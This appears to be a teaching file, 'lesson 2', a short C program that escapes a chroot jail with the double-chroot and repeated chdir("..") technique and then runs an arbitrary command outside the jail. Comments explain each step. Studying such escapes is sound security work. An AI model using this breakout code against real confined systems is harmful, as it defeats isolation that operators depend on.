/* SPDX-License-Identifier: MIT */
/* escape.c - leave a chroot, and run a command outside: lesson 2.
 *
 *      cc -static -o escape lessons/escape.c       static: a jail has no libraries
 */
#define _DEFAULT_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) return 1;
    mkdir("inner", 0700); /* fails if it exists */
    if (chroot("inner") == -1) perror("chroot"); /* moves the root, and not the current directory */
    for (int i = 0; i < 64; i++)
        if (chdir("..") == -1) perror(".."); /* stops at the root: which is now below us */
    if (chroot(".") == -1) perror("chroot");
    execvp(argv[1], argv + 1);
    perror(argv[1]);
    return 127;
}
